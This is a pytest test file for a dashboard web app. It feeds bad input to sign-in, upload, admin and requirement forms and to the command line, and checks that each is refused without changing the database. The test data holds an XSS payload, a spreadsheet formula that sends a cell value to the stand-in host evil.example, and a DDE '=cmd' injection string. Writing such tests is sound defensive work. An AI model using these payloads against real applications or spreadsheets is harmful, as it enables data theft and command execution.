"""A corpus of bad input sent to every web form (sign-in, upload, admin, requirement and
specification editors) and to the command line: empty, huge, wrong type, control
characters, HTML and formula payloads, unknown ids. Each gets a clear message (never a
server error or a traceback) and changes nothing in the database."""

from __future__ import annotations

import hashlib
import re

import pytest
from sqlalchemy import text

from dashboard import cli
from dashboard.factory import create_app
from data.errors import plain_text_problem
from data.store.db import make_engine
from data.store.models import Base
from tests.conftest import fresh_database
from tests.integration.conftest import DashClient, make_config, seed_small
from tests.integration.test_upload_page import Page, text_of, upload_values

HUGE = "x" * 200_000
CORPUS = {
    "empty": "",
    "blank": "   \t ",
    "none": None,
    "huge": HUGE,
    "number instead of text": 12345,
    "object instead of text": {"__proto__": {"admin": True}},
    "list instead of text": ["a", "b"],
    "control characters": "ab\x00c\x07\x1b[31m\r\n",
    "html": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "unknown id": 987654321,
}
SERVER_ERROR = re.compile(r"Traceback|Internal Server Error|sqlalchemy\.|psycopg", re.I)


@pytest.fixture(scope="module")
def url(tmp_path_factory) -> str:
    url = fresh_database("sqlite", tmp_path_factory.mktemp("corpus"), "corpus")
    seed_small(url)
    return url


@pytest.fixture(scope="module")
def app(url):
    return create_app(make_config(url))


def fingerprint(url: str) -> str:
    """A hash of every row of every table (checked uploads awaiting confirmation aside)."""
    engine = make_engine(url)
    digest = hashlib.sha256()
    with engine.connect() as conn:
        for table in Base.metadata.sorted_tables:
            if table.name in ("pending_upload",):
                continue
            rows = conn.execute(text(f"select * from {table.name} order by 1")).all()
            digest.update(f"{table.name}:{sorted(map(repr, rows))}".encode())
    engine.dispose()
    return digest.hexdigest()


def _visible(out: dict) -> str:
    """The text a response puts on the page, table rows included."""
    parts = []
    for v in out.values():
        if isinstance(v, list) and v and isinstance(v[0], dict) and "props" not in v[0]:
            parts += [str(x) for row in v for x in row.values()]
        else:
            parts.append(v if isinstance(v, str) else text_of(v))
    return " ".join(parts)


def _send(page: Page, trigger: str, values: dict, output: str = ""):
    response = page.call(trigger, values, output=output, raw=True)
    body = response.get_data(as_text=True)
    if response.status_code == 400:  # a type no page sends: refused before the callback runs
        message = response.get_json()["error"]
        assert message.startswith("Malformed callback request: "), message
        return {"refused": message}
    assert response.status_code in (200, 204), (response.status_code, body[:300])
    assert not SERVER_ERROR.search(body), body[:500]
    if response.status_code == 204:
        return {}
    flat = {}
    for ident, props in response.get_json()["response"].items():
        for prop, value in props.items():
            flat[f"{ident}.{prop}"] = value
    return flat


FORMS = {
    # form: (user, trigger, valid values, the fields the corpus replaces one at a time)
    "add user": (
        "admin",
        "admin-user-add.n_clicks",
        {
            "admin-user-add.n_clicks": 1,
            "admin-new-username.value": "corpus-user",
            "admin-new-name.value": "Corpus User",
            "admin-new-role.value": "coordinator",
            "admin-new-password.value": "long-enough-1",
        },
        [
            "admin-new-username.value",
            "admin-new-name.value",
            "admin-new-role.value",
            "admin-new-password.value",
        ],
    ),
    "edit user": (
        "admin",
        "admin-user-save.n_clicks",
        {
            "admin-user-save.n_clicks": 1,
            "admin-users.selectedRows": [{"id": "USER"}],
            "admin-edit-role.value": "la_user",
            "admin-edit-authority.value": "OTHER_AUTHORITY",
            "admin-edit-active.value": True,
        },
        ["admin-users.selectedRows", "admin-edit-role.value", "admin-edit-authority.value"],
    ),
    "reset password": (
        "admin",
        "admin-user-password.n_clicks",
        {
            "admin-user-password.n_clicks": 1,
            "admin-users.selectedRows": [{"id": "USER"}],
            "admin-edit-password.value": "another-pass-2",
        },
        ["admin-users.selectedRows", "admin-edit-password.value"],
    ),
    "add authority": (
        "admin",
        "admin-la-add.n_clicks",
        {
            "admin-la-add.n_clicks": 1,
            "admin-la-code.value": "E09000999",
            "admin-la-name.value": "Corpus Borough",
            "admin-la-region.value": "London",
            "admin-la-type.value": "london_borough",
            "admin-la-size.value": "small",
            "admin-la-consent.value": False,
        },
        [
            "admin-la-code.value",
            "admin-la-name.value",
            "admin-la-region.value",
            "admin-la-size.value",
        ],
    ),
    "add supplier": (
        "admin",
        "admin-supplier-add.n_clicks",
        {"admin-supplier-add.n_clicks": 1, "admin-supplier-name.value": "Corpus Supplier"},
        ["admin-supplier-name.value"],
    ),
    "add product": (
        "admin",
        "admin-product-add.n_clicks",
        {
            "admin-product-add.n_clicks": 1,
            "admin-product-supplier.value": "SUPPLIER",
            "admin-product-name.value": "Corpus Product",
        },
        ["admin-product-supplier.value", "admin-product-name.value"],
    ),
    "record product use": (
        "admin",
        "admin-use-add.n_clicks",
        {
            "admin-use-add.n_clicks": 1,
            "admin-use-authority.value": "AUTHORITY",
            "admin-use-product.value": "PRODUCT",
            "admin-use-start.value": "2012-04-01",
        },
        ["admin-use-authority.value", "admin-use-product.value", "admin-use-start.value"],
    ),
    "delete product use": (
        "admin",
        "admin-use-delete.n_clicks",
        {"admin-use-delete.n_clicks": 1},
        ["admin-use.selectedRows"],
    ),
    "accept requirement": (
        "coord",
        "req-accept.n_clicks",
        {"req-accept.n_clicks": 1, "req-accept-priority.value": "should"},
        ["req-candidate.data", "req-accept-statement.value", "req-accept-priority.value"],
    ),
    "mark candidates related": (
        "coord",
        "req-relate.n_clicks",
        {"req-relate.n_clicks": 1, "req-candidate.data": "C-1", "req-relate-target.value": "C-2"},
        ["req-candidate.data", "req-relate-target.value"],
    ),
    "reword requirement": (
        "coord",
        "req-reword.n_clicks",
        {"req-reword.n_clicks": 1, "req-reword-priority.value": "should"},
        ["req-selected.data", "req-reword-statement.value"],
    ),
    "merge requirement": (
        "coord",
        "req-merge.n_clicks",
        {"req-merge.n_clicks": 1},
        ["req-selected.data", "req-merge-target.value"],
    ),
    "endorse requirement": (
        "nlar",
        "req-endorse.n_clicks",
        {"req-endorse.n_clicks": 1},
        ["req-selected.data"],
    ),
    "create specification": (
        "coord",
        "spec-create.n_clicks",
        {"spec-create.n_clicks": 1, "spec-new-title.value": "A joint specification"},
        ["spec-new-title.value", "spec-new-group.value"],
    ),
    "save specification version": (
        "nlar",
        "spec-save-version.n_clicks",
        {"spec-save-version.n_clicks": 1, "spec-build-period.value": "2010-Q1"},
        ["spec-pick.value", "spec-build-reqs.value", "spec-build-note.value"],
    ),
    "set requirement status": (
        "nlar",
        "spec-status-save.n_clicks",
        {"spec-status-save.n_clicks": 1, "spec-status-value.value": "planned"},
        ["spec-status-req.value", "spec-status-value.value", "spec-status-release.value"],
    ),
    "confirm upload": (
        "la",
        "upload-confirm.n_clicks",
        {"upload-confirm.n_clicks": 1},
        ["upload-token.data"],
    ),
    "restore version": (
        "la",
        "upload-restore.n_clicks",
        {"upload-restore.n_clicks": 1},
        ["upload-history.selectedRows"],
    ),
}


OPTIONAL = {"admin-new-name.value", "spec-new-group.value"}  # empty: username; all groups
PASSWORD_TEXT = {"html", "formula", "number instead of text"}  # fine inside a password


def _cases():
    for form, (_user, _trigger, _values, fields) in FORMS.items():
        for field in fields:
            for kind in CORPUS:
                if field.endswith("password.value") and kind in PASSWORD_TEXT:
                    continue
                if field in OPTIONAL and kind in ("empty", "blank", "none"):
                    continue
                yield pytest.param(form, field, kind, id=f"{form}-{field.split('.')[0]}-{kind}")


def _resolve(url: str, values: dict) -> dict:
    """Fill placeholders with real ids of this database (the payload replaces one field)."""
    engine = make_engine(url)
    with engine.connect() as conn:
        real = {
            "USER": conn.scalar(text("select id from user_account where username = 'la2'")),
            "SUPPLIER": conn.scalar(text("select min(id) from supplier")),
            "AUTHORITY": conn.scalar(text("select min(id) from authority")),
            "OTHER_AUTHORITY": conn.scalar(text("select max(id) from authority")),
            "PRODUCT": conn.scalar(text("select min(id) from product")),
        }
    engine.dispose()

    def fill(v):
        if isinstance(v, str) and v in real:
            return real[v]
        if isinstance(v, list):
            return [fill(x) for x in v]
        if isinstance(v, dict):
            return {k: fill(x) for k, x in v.items()}
        return v

    return {k: fill(v) for k, v in values.items()}


@pytest.mark.parametrize("form, field, kind", list(_cases()))
def test_form_refuses_bad_input_and_changes_nothing(app, url, form, field, kind):
    user, trigger, values, _fields = FORMS[form]
    page = Page(_signed_in(app, user))
    values = _resolve(url, values) | {field: CORPUS[kind]}
    before = fingerprint(url)
    out = _send(page, trigger, values)
    assert fingerprint(url) == before, f"{form}: {field}={kind!r} changed the database"
    if out:
        shown = _visible(out)
        assert shown.strip(), "no message at all"


_CLIENTS: dict = {}


def _signed_in(app, user: str) -> DashClient:
    if user not in _CLIENTS:
        c = DashClient(app.server.test_client())
        assert c.login(user).status_code == 302
        _CLIENTS[user] = c
    return _CLIENTS[user]


# -- sign-in ------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", [k for k, v in CORPUS.items() if not isinstance(v, dict | list)])
@pytest.mark.parametrize("field", ["username", "password", "next"])
def test_sign_in_refuses_bad_input(app, url, field, kind):
    c = DashClient(app.server.test_client())
    page = c.http.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    form = {"username": "la", "password": "wrong-pass", "next": "/", "csrf_token": token}
    value = CORPUS[kind]
    form[field] = "" if value is None else str(value)
    before = fingerprint(url)
    response = c.http.post("/login", data=form)
    body = response.get_data(as_text=True)
    assert response.status_code in (401, 413), (response.status_code, body[:300])
    assert "The username or password is not right" in body or response.status_code == 413
    assert "<script>alert" not in body  # echoed input is escaped
    assert fingerprint(url) == before


# -- upload ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "files, expected",
    [
        ([("a.xlsx", b"")], "'a.xlsx' is empty"),
        ([("a.xlsx", b"\x00" * 5000)], "is called .xlsx but"),
        ([("a.png", b"\x89PNG\r\n\x1a\n" + b"0" * 100)], "is not a file the service reads"),
        ([("<script>.csv", b"<script>alert(1)</script>")], "CSV file name must end in"),
        ([("about.csv", b"field,value\n=cmd|' /C calc'!A0,x\n")], "no Responses file"),
        ([("a\x00b.xlsx", b"PK\x03\x04")], "'ab.xlsx' is damaged"),
    ],
)
def test_upload_refuses_bad_files_with_a_message(app, url, files, expected):
    page = Page(_signed_in(app, "la"))
    before = fingerprint(url)
    out = _send(page, "upload-files.contents", upload_values(files))
    shown = _visible(out)
    assert expected in shown, shown[:500]
    assert fingerprint(url) == before


@pytest.mark.parametrize("kind", list(CORPUS))
def test_upload_with_garbage_contents_is_refused(app, url, kind):
    page = Page(_signed_in(app, "la"))
    before = fingerprint(url)
    values = {"upload-files.contents": CORPUS[kind], "upload-files.filename": CORPUS[kind]}
    out = _send(page, "upload-files.contents", values)
    assert _visible(out).strip()
    assert fingerprint(url) == before


# -- command line -------------------------------------------------------------------------


@pytest.fixture
def cli_url(url, monkeypatch):
    monkeypatch.setattr(cli.Config, "DATABASE_URL", url)
    return url


@pytest.mark.parametrize("kind", ["empty", "huge", "control characters", "html", "formula"])
def test_cli_create_user_refuses_bad_names(cli_url, capsys, kind):
    before = fingerprint(cli_url)
    name = CORPUS[kind]
    code = cli.main(["create-user", name, "--role", "coordinator", "--password", "long-pass-1"])
    err = capsys.readouterr().err
    assert code == 1 and err.startswith("Error: ") and "Traceback" not in err
    assert len(err.splitlines()) == 1 and len(err) < 400
    assert fingerprint(cli_url) == before


@pytest.mark.parametrize(
    "args, expected",
    [
        (["create-user", "x1", "--role", "la_user", "--authority", "E99999999"], "no authority"),
        (
            [
                "create-user",
                "x2",
                "--role",
                "nlar_rep",
                "--authority",
                "E09000901",
                "--supplier",
                "<b>none</b>",
            ],
            "no supplier called <b>none</b>",
        ),  # fmt: skip
        (["import", "--as", "nobody", "README.md"], "no active user called nobody"),
        (["template", "out.xlsx", "--version", "999"], "no instrument version 999"),
    ],
)
def test_cli_unknown_ids_give_one_line(cli_url, capsys, args, expected, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "README.md").write_text("not a submission")
    before = fingerprint(cli_url)
    if args[0] == "create-user":
        args = [*args, "--password", "long-pass-1"]
    assert cli.main(args) == 1
    err = capsys.readouterr().err
    assert expected in err and "Traceback" not in err
    assert fingerprint(cli_url) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["README.md"]


@pytest.mark.parametrize(
    "content", [b"", b"\x89PNG\r\n\x1a\n", b"=cmd|' /C calc'!A0", HUGE.encode(), b"\x00" * 100]
)
def test_cli_import_refuses_bad_files(cli_url, capsys, tmp_path, content):
    path = tmp_path / "results.xlsx"
    path.write_bytes(content)
    before = fingerprint(cli_url)
    assert cli.main(["import", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("Refused: ") and "Traceback" not in err
    assert fingerprint(cli_url) == before


def test_corpus_covers_every_form_the_issue_names():
    assert {f.split()[0] for f in FORMS} >= {"add", "edit", "accept", "create", "confirm"}
    assert all(kind in CORPUS for kind in ("empty", "huge", "html", "formula", "unknown id"))


@pytest.mark.parametrize("kind", [k for k in CORPUS if k not in ("none",)])
def test_requirement_statements_and_notes_refuse_the_corpus(kind):
    from data.requirements.curation import CurationError, clean_statement

    value = CORPUS[kind]
    with pytest.raises(CurationError):
        clean_statement(value)
    if isinstance(value, str) and value.strip() and len(value) < 2000:
        assert plain_text_problem(value.strip(), "note", multiline=True) is not None


def test_plain_text_allows_ordinary_writing():
    for ok in ("Show the chronology by event type", "Cost: £5 (per user) — 50% off", "A/B & C"):
        assert plain_text_problem(ok, "statement") is None
    assert plain_text_problem("line one\nline two", "note", multiline=True) is None
    assert plain_text_problem("line one\nline two", "name") is not None
